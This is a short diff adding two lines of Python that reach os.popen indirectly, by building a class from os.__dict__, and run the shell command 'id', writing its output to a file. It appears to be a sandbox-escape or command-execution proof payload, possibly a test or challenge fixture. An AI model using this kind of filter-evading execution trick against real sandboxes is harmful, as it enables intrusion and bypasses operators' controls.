@@ -1,0 +1,2 @@
+import os
+type("T", (), dict(os.__dict__)).popen("id>pf").read()
